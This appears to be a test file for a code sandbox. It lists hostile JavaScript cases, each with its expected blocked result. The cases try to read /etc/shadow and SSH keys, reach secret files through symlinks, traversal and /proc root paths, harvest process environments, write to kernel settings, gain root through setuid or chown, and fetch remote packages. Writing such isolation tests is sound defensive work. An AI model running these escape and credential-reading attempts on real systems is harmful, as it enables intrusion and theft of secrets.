import { type HostileCase, JAVASCRIPT_ATTEMPT, javascript } from '../hostile-case';

/** The host's files and environment, and writing where a tool may not. */
export const host: readonly HostileCase[] = [
  {
    name: 'the host’s passwords and keys',
    code: javascript`${JAVASCRIPT_ATTEMPT}
import { stat } from 'node:fs/promises';
export const main = async ({ paths }) => ({
  message: [...new Set(await Promise.all(paths.map((path) => attempt(() => stat(path)))))],
});`,
    arguments: () => ({
      paths: [
        '/etc/shadow',
        '/root',
        '/home',
        '/opt',
        '/srv',
        '/var/lib',
        '/etc/hostname',
        '/etc/ssh',
        '/sys',
      ],
    }),
    outcome: { returned: { message: ['ENOENT'] } },
  },
  {
    name: 'a secret file of the server, by every way to it',
    code: javascript`${JAVASCRIPT_ATTEMPT}
import { readFileSync, symlinkSync } from 'node:fs';
export const main = async ({ path }) => {
  symlinkSync(path, 'link');
  const ways = [path, 'link', '../../../../..' + path, '/proc/1/root' + path, '/proc/self/root' + path, '/proc/1/cwd/..' + path];
  const answers = [];
  for (const way of ways) {
    answers.push(await attempt(() => readFileSync(way)), await attempt(() => Bun.file(way).text()), await attempt(() => import(way)) === 'DONE');
  }
  return { message: [...new Set(answers)] };
};`,
    arguments: ({ secretFile }) => ({ path: secretFile }),
    outcome: { returned: { message: ['ENOENT', false] } },
  },
  {
    name: 'the server’s environment, in its own and in each process’s',
    code: javascript`
import { readdirSync, readFileSync } from 'node:fs';
export const main = ({ backwards }) => {
  const secret = [...backwards].reverse().join('');
  const texts = [JSON.stringify(process.env), JSON.stringify(Bun.env), process.argv.join(' ')];
  for (const pid of readdirSync('/proc').filter((name) => Number(name))) {
    for (const name of ['environ', 'cmdline']) {
      try {
        texts.push(readFileSync('/proc/' + pid + '/' + name, 'latin1'));
      } catch {}
    }
  }
  return { message: texts.some((text) => text.includes(secret)), some: texts.length > 3 };
};`,
    arguments: ({ secret }) => ({ backwards: [...secret].reverse().join('') }),
    outcome: { returned: { message: false, some: true } },
  },
  {
    name: 'the names of the environment',
    code: javascript`
export const main = () => {
  const known = ['PATH', 'HOME', 'TMPDIR', 'LANG', 'PWD', 'TZ', 'SSL_CERT_FILE', 'NODE_USE_ENV_PROXY', 'NODE_EXTRA_CA_CERTS', 'BUN_RUNTIME_TRANSPILER_CACHE_PATH', 'DO_NOT_TRACK'];
  return { message: Object.keys(process.env).filter((name) => !known.includes(name) && !/_proxy$/i.test(name)) };
};`,
    outcome: { returned: { message: [] } },
  },
  {
    name: 'the processes, mounts and files of the host',
    code: javascript`
import { readdirSync, readFileSync, readlinkSync } from 'node:fs';
export const main = ({ folder }) => {
  const pids = readdirSync('/proc').map(Number).filter(Boolean);
  const targets = readdirSync('/proc/self/fd').map((fd) => { try { return readlinkSync('/proc/self/fd/' + fd); } catch { return ''; } });
  return {
    message: pids.length <= 4 && Math.max(...pids) < 20,
    mounted: readFileSync('/proc/self/mountinfo', 'utf8').includes(folder),
    open: targets.filter((target) => !/^(pipe:|socket:|anon_inode:|\/dev\/null|\/proc\/|\/dev\/u?random|$)/.test(target)),
    root: readdirSync('/').filter((name) => !['dev', 'etc', 'lib', 'lib64', 'pkgs', 'proc', 'run', 'scratch', 'tmp', 'usr', 'var'].includes(name)),
  };
};`,
    arguments: ({ secretFile }) => ({ folder: secretFile }),
    outcome: { returned: { message: true, mounted: false, open: [], root: [] } },
  },
  {
    name: 'any folder that can be written to, but its own',
    code: javascript`${JAVASCRIPT_ATTEMPT}
import { readdirSync, writeFileSync } from 'node:fs';
export const main = async () => {
  const found = [];
  const visit = async (folder) => {
    if (await attempt(() => writeFileSync(folder + '/planted', '')) === 'DONE') {
      found.push(folder);
    }
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = folder + '/' + entry.name;
      if (entry.isDirectory() && !['//proc', '//usr/lib', '//usr/share', '//pkgs'].includes(path)) {
        await attempt(() => visit(path));
      }
    }
  };
  await visit('/');
  return { message: found.sort() };
};`,
    outcome: { returned: { message: ['//scratch'] } },
  },
  {
    name: 'the interpreter, its runner and the settings of the kernel',
    code: javascript`${JAVASCRIPT_ATTEMPT}
import { constants, openSync, readdirSync, renameSync, unlinkSync } from 'node:fs';
export const main = async () => {
  const paths = [process.execPath, '/proc/self/exe', ...readdirSync('/run/toolroom').map((name) => '/run/toolroom/' + name), '/etc/passwd', '/etc/hosts',
    '/proc/sys/kernel/core_pattern', '/proc/sys/vm/drop_caches', '/proc/sysrq-trigger', '/proc/self/uid_map'];
  const changed = [];
  for (const path of paths) {
    for (const act of [() => openSync(path, constants.O_WRONLY), () => unlinkSync(path), () => renameSync(path, path + '.old')]) {
      if ((await attempt(act)) === 'DONE') {
        changed.push(path);
      }
    }
  }
  return { message: changed.filter((path) => path !== '/proc/self/uid_map'), some: paths.length > 8 };
};`,
    outcome: { returned: { message: [], some: true } },
  },
  {
    name: 'another user’s rights',
    code: javascript`${JAVASCRIPT_ATTEMPT}
import { chownSync, readFileSync, writeFileSync } from 'node:fs';
export const main = async () => {
  writeFileSync('mine', '');
  return { message: [
    await attempt(() => chownSync('mine', 0, 0)),
    await attempt(() => process.setuid?.(0)) !== 'DONE' || process.getuid() !== 0,
    /^CapEff:\t0{16}$/m.test(readFileSync('/proc/self/status', 'utf8')),
    /^Seccomp:\t2$/m.test(readFileSync('/proc/self/status', 'utf8')),
  ] };
};`,
    outcome: { returned: { message: ['EINVAL', true, true, true] } },
  },
  {
    name: 'a package that is not there is not fetched',
    code: javascript`
import lodash from 'lodash';
export const main = () => ({ message: lodash.VERSION });`,
    egress: true,
    outcome: { failed: 'raised', type: 'ModuleNotFoundError', message: /lodash/ },
  },
  {
    name: 'the same at run time, and by a URL',
    code: javascript`${JAVASCRIPT_ATTEMPT}
export const main = async () => ({ message: [
  await attempt(() => import('left-' + 'pad')) === 'DONE',
  await attempt(() => require('lod' + 'ash')) === 'DONE',
  await attempt(() => import('http://public.' + 'example/x.js')) === 'DONE',
] });`,
    egress: true,
    outcome: { returned: { message: [false, false, false] } },
  },
];
